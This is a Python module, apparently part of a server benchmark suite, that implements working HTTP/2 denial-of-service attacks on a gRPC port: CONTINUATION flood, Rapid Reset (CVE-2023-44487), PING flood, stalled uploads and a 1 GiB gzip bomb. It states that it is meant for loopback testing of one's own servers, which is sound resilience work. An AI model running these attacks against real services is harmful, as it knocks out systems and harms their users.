"""Attacks on a gRPC (HTTP/2 cleartext) port, as raw frames over one socket each.

One function per attack, each ``attack(host, port, duration) -> AttackResult``: it runs until
its work is done, the server closes the connection, or ``duration`` seconds pass, and says
what the server did. Reusable by any benchmark (``benchmarks/h2_attacks.py`` measures the
server's event-loop stall and memory under each; a soak benchmark can loop them). Loopback
only: point them at servers you run.

    from benchmarks import attacks_h2
    print(attacks_h2.ATTACKS["rapid_reset"]("127.0.0.1", 8500, 10.0))
"""

from __future__ import annotations

import functools
import select
import socket
import struct
import time
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0x0,
    0x1,
    0x3,
    0x4,
    0x6,
    0x7,
    0x8,
    0x9,
)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
MiB = 1024 * 1024


@dataclass
class AttackResult:
    """What one attack sent and how the server answered."""

    name: str
    sent: int = 0  # frames (or streams) of the attack sent
    seconds: float = 0.0
    closed_by_server: bool = False
    goaway_code: int | None = None  # error code of the server's GOAWAY, if one came
    notes: dict[str, object] = field(default_factory=dict)


def frame(ftype: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    length = len(payload)
    return (
        length.to_bytes(3, "big")
        + bytes([ftype, flags])
        + (stream_id & 0x7FFFFFFF).to_bytes(4, "big")
        + payload
    )


def request_block(encoder: hpack.Encoder, path: str = "/t.Test/echo", **extra: str) -> bytes:
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "attack"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *extra.items(),
    ]
    return bytes(encoder.encode(headers))


PREDICT = "/tensorflow.serving.PredictionService/Predict"


def predict_request(model: str, rows: list[list[float]]) -> bytes:
    """A TF Serving PredictRequest of float input ``x`` (``rows``) for ``model``, in protobuf
    wire format written out here, so that attack processes need no TensorFlow."""
    dims = b"".join(_field(2, b"\x08" + _varint(size)) for size in (len(rows), len(rows[0])))
    floats = struct.pack(f"<{len(rows) * len(rows[0])}f", *(v for row in rows for v in row))
    tensor = b"\x08\x01" + _field(2, dims) + _field(5, floats)  # DT_FLOAT, shape, float_val
    inputs = _field(2, _field(1, b"x") + _field(2, tensor))  # one entry of the inputs map
    return _field(1, _field(1, model.encode())) + inputs  # model_spec.name, inputs


def _varint(value: int) -> bytes:
    out = bytearray()
    while value > 0x7F:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def _field(number: int, payload: bytes) -> bytes:
    """A length-delimited protobuf field."""
    return _varint(number << 3 | 2) + _varint(len(payload)) + payload


def grpc_message(payload: bytes, compressed: bool = False) -> bytes:
    return bytes([int(compressed)]) + len(payload).to_bytes(4, "big") + payload


class Conn:
    """A raw HTTP/2 client connection that keeps reading the server's frames when asked."""

    def __init__(self, host: str, port: int, rcvbuf: int | None = None) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf is not None:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.sock.connect((host, port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.encoder = hpack.Encoder()
        self.buf = b""
        self.closed = False
        self.goaway: int | None = None
        self.acks = 0  # PING ACKs received
        self.send_window = 65_535
        self.initial_window = 65_535
        self.stream_windows: dict[int, int] = {}
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))

    def send(self, data: bytes) -> bool:
        """Send all of ``data``; False once the server has closed the connection."""
        try:
            self.sock.sendall(data)
        except OSError:
            self.closed = True
        return not self.closed

    def pump(self, timeout: float = 0.0) -> None:
        """Read and handle whatever the server sent (windows, SETTINGS, GOAWAY, close)."""
        while not self.closed:
            ready, _, _ = select.select([self.sock], [], [], timeout)
            if not ready:
                return
            try:
                chunk = self.sock.recv(1 << 20)
            except OSError:
                chunk = b""
            if not chunk:
                self.closed = True
                return
            self.buf += chunk
            self._frames()
            timeout = 0.0

    def _frames(self) -> None:
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + length:
                return
            ftype, flags = self.buf[3], self.buf[4]
            sid = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            payload = self.buf[9 : 9 + length]
            self.buf = self.buf[9 + length :]
            if ftype == PING and flags & ACK:
                self.acks += 1
            elif ftype == GOAWAY:
                self.goaway = int.from_bytes(payload[4:8], "big")
            elif ftype == WINDOW_UPDATE:
                increment = int.from_bytes(payload, "big") & 0x7FFFFFFF
                if sid == 0:
                    self.send_window += increment
                elif sid in self.stream_windows:
                    self.stream_windows[sid] += increment
            elif ftype == SETTINGS and not flags & ACK:
                for i in range(0, len(payload), 6):
                    if int.from_bytes(payload[i : i + 2], "big") == 4:
                        value = int.from_bytes(payload[i + 2 : i + 6], "big")
                        for key in self.stream_windows:
                            self.stream_windows[key] += value - self.initial_window
                        self.initial_window = value
                self.send(frame(SETTINGS, ACK, 0))

    def wait_closed(self, timeout: float) -> None:
        end = time.monotonic() + timeout
        while not self.closed and time.monotonic() < end:
            self.pump(0.05)

    def result(self, name: str, sent: int, started: float) -> AttackResult:
        self.pump(0.0)
        return AttackResult(
            name, sent, time.monotonic() - started, self.closed, self.goaway, notes={}
        )

    def close(self) -> None:
        self.sock.close()


def no_attack(host: str, port: int, duration: float) -> AttackResult:
    """The baseline: a connection that sends nothing for ``duration`` (the noise floor)."""
    conn = Conn(host, port)
    started = time.monotonic()
    conn.wait_closed(duration)
    result = conn.result("no_attack", 0, started)
    conn.close()
    return result


def continuation_flood(host: str, port: int, duration: float, frames: int = 60_000) -> AttackResult:
    """A HEADERS frame without END_HEADERS, then empty CONTINUATION frames."""
    conn = Conn(host, port)
    conn.pump(0.2)  # SETTINGS answered now: nothing may come between the block's frames
    started = time.monotonic()
    sent = 0
    if conn.send(frame(HEADERS, 0, 1, request_block(conn.encoder)[:10])):
        batch = frame(CONTINUATION, 0, 1) * 1000
        while sent < frames and time.monotonic() - started < duration and conn.send(batch):
            sent += 1000
    conn.wait_closed(max(0.0, duration - (time.monotonic() - started)))
    result = conn.result("continuation_flood", sent, started)
    conn.close()
    return result


def rapid_reset(
    host: str,
    port: int,
    duration: float,
    triples: int = 30_000,
    path: str = "/t.Test/echo",
    message: bytes = b"x" * 16,
) -> AttackResult:
    """HEADERS + DATA(END_STREAM) + RST_STREAM on new stream after new stream (CVE-2023-44487),
    each a complete call of ``path`` with ``message``."""
    conn = Conn(host, port)
    started = time.monotonic()
    first = request_block(conn.encoder, path)
    block = request_block(conn.encoder, path)  # now indexed: small and identical every time
    body = grpc_message(message)
    conn.send(frame(HEADERS, END_HEADERS, 1, first) + frame(RST_STREAM, 0, 1, bytes(4)))
    sid = 3
    sent = 0
    while sent < triples and time.monotonic() - started < duration and not conn.closed:
        batch = []
        for _ in range(500):
            batch.append(frame(HEADERS, END_HEADERS, sid, block))
            batch.append(frame(DATA, END_STREAM, sid, body))
            batch.append(frame(RST_STREAM, 0, sid, (8).to_bytes(4, "big")))
            sid += 2
        if not conn.send(b"".join(batch)):
            break
        sent += 500
        conn.pump()
    conn.wait_closed(max(0.0, min(2.0, duration - (time.monotonic() - started))))
    result = conn.result("rapid_reset", sent, started)
    conn.close()
    return result


def ping_flood(host: str, port: int, duration: float, pings: int = 1_000_000) -> AttackResult:
    """PINGs from a client that never reads the answers (small receive buffer)."""
    conn = Conn(host, port, rcvbuf=4096)
    conn.sock.settimeout(0.5)
    started = time.monotonic()
    batch = frame(PING, 0, 0, b"12345678") * 2000
    sent = 0
    while sent < pings and time.monotonic() - started < duration:
        try:
            conn.sock.sendall(batch)
        except TimeoutError:
            continue  # the server stopped reading us: keep trying until the time is up
        except OSError:
            conn.closed = True
            break
        sent += 2000
    conn.sock.settimeout(None)
    result = AttackResult("ping_flood", sent, time.monotonic() - started, conn.closed, None)
    conn.close()
    return result


def stalled_uploads(
    host: str, port: int, duration: float, streams: int = 1000, per_stream: int = MiB
) -> AttackResult:
    """Many streams, each sent ``per_stream`` bytes (as flow control allows) and never
    finished; the connection is held open until ``duration`` ends."""
    conn = Conn(host, port)
    started = time.monotonic()
    conn.pump(0.2)
    block = request_block(conn.encoder)
    remaining: dict[int, int] = {}
    refused = 0
    for i in range(streams):
        sid = 2 * i + 1
        conn.stream_windows[sid] = conn.initial_window
        remaining[sid] = per_stream
        if not conn.send(frame(HEADERS, END_HEADERS, sid, block)):
            break
    chunk = b"\0" * 16_384
    sent_bytes = 0
    while time.monotonic() - started < duration and not conn.closed:
        progressed = False
        for sid, left in remaining.items():
            n = min(left, len(chunk), conn.stream_windows[sid], conn.send_window)
            if n <= 0:
                continue
            if not conn.send(frame(DATA, 0, sid, chunk[:n])):
                break
            remaining[sid] -= n
            conn.stream_windows[sid] -= n
            conn.send_window -= n
            sent_bytes += n
            progressed = True
        conn.pump(0.0 if progressed else 0.1)
    result = conn.result("stalled_uploads", streams, started)
    result.notes = {"bytes_sent": sent_bytes, "refused": refused}
    conn.close()
    return result


def gzip_bomb(host: str, port: int, duration: float, inflated: int = 1024 * MiB) -> AttackResult:
    """One gzip-compressed message of ~1 MiB that inflates to ``inflated`` bytes."""
    conn = Conn(host, port)
    started = time.monotonic()
    conn.pump(0.2)
    bomb = _bomb(inflated)
    block = request_block(conn.encoder, **{"grpc-encoding": "gzip"})
    message = grpc_message(bomb, compressed=True)
    conn.stream_windows[1] = conn.initial_window
    conn.send(frame(HEADERS, END_HEADERS, 1, block))
    offset = 0
    while offset < len(message) and not conn.closed and time.monotonic() - started < duration:
        n = min(16_384, conn.stream_windows[1], conn.send_window, len(message) - offset)
        if n <= 0:
            conn.pump(0.05)
            continue
        last = offset + n == len(message)
        conn.send(frame(DATA, END_STREAM if last else 0, 1, message[offset : offset + n]))
        offset += n
        conn.stream_windows[1] -= n
        conn.send_window -= n
        conn.pump()
    status = b""
    decoder = hpack.Decoder()
    decoder.max_header_list_size = 1 << 20
    end = time.monotonic() + max(1.0, duration - (time.monotonic() - started))
    raw = b""
    while time.monotonic() < end and b"grpc-status" not in status and not conn.closed:
        ready, _, _ = select.select([conn.sock], [], [], 0.1)
        if ready:
            chunk = conn.sock.recv(1 << 16)
            if not chunk:
                break
            raw += chunk
            status = raw  # grpc-status is sent as a literal, readable in the raw bytes
    result = conn.result("gzip_bomb", 1, started)
    result.notes = {"compressed_bytes": len(bomb), "answered": b"grpc-status" in status}
    conn.close()
    return result


@functools.cache
def _bomb(inflated: int) -> bytes:
    """gzip of ``inflated`` zero bytes, built in steps (never holding the inflated bytes)."""
    deflater = zlib.compressobj(9, zlib.DEFLATED, 31)
    step = b"\0" * (16 * MiB)
    parts = [deflater.compress(step) for _ in range(inflated // len(step))]
    parts.append(deflater.compress(b"\0" * (inflated % len(step))))
    parts.append(deflater.flush())
    return b"".join(parts)


def prepare(name: str) -> None:
    """Build what an attack needs before it is timed (the gzip bomb takes seconds)."""
    if name == "gzip_bomb":
        _bomb(1024 * MiB)


ATTACKS: dict[str, Callable[[str, int, float], AttackResult]] = {
    "no_attack": no_attack,
    "continuation_flood": continuation_flood,
    "rapid_reset": rapid_reset,
    "ping_flood": ping_flood,
    "stalled_uploads": stalled_uploads,
    "gzip_bomb": gzip_bomb,
}
